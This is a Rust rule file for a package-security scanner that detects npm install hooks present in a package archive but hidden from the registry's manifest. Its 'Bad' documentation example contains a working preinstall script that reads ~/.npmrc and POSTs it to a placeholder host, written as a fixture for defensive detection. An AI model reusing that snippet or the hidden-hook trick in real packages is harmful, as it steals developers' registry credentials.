//! # The registry does not show a hook that the archive has
//!
//! The archive's manifest has an install hook, or another command in it, than the manifest that the registry shows.
//!
//! ## Why it matters
//!
//! The registry takes the manifest that the publisher sends and never compares it with the one in the archive. Reviewers, web
//! pages and tools read the first; the package manager runs the hooks of the second.
//!
//! ## Known benign uses
//!
//! Tools that change the manifest while they pack it. What the publishing clients do themselves (a `node-gyp rebuild` for a
//! `binding.gyp`, paths shortened) is no difference. It never decides alone.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "left-pad-two", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "left-pad-two", "versions": {"1.3.0": {"_id": "a", "name": "left-pad-two", "version": "1.3.0", "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "addon", "version": "1.3.0", "scripts": {"postinstall": "./node_modules/.bin/patch  x"}}
//! == binding.gyp
//! {"targets": [{"target_name": "a", "sources": ["a.c"]}]}
//! == packument.json
//! {"name": "addon", "versions": {"1.3.0": {"_id": "a", "name": "addon", "version": "1.3.0", "gypfile": true,
//!   "scripts": {"install": "node-gyp rebuild", "postinstall": "patch x"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - Clarke: The massive bug at the heart of the npm ecosystem (June 2023)

use stockade_facts::registry::RegistryDifference;

use crate::prelude::*;

/// The registry does not show a hook that the archive has.
pub struct InstallHookHiddenFromRegistry;

impl Rule for InstallHookHiddenFromRegistry {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "install-hook-hidden-from-registry",
            title: "The registry does not show a hook that the archive has",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::Medium,
            technique: "T1036",
            covers: &["manifest-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for difference in facts.registry_differences() {
            if let RegistryDifference::HookHidden { hook } = difference {
                let does =
                    format!("runs `{}`, and the registry shows another hook or none", excerpt(&hook, 40));
                found.in_manifest(&["scripts", &hook], &does);
            }
        }
    }
}
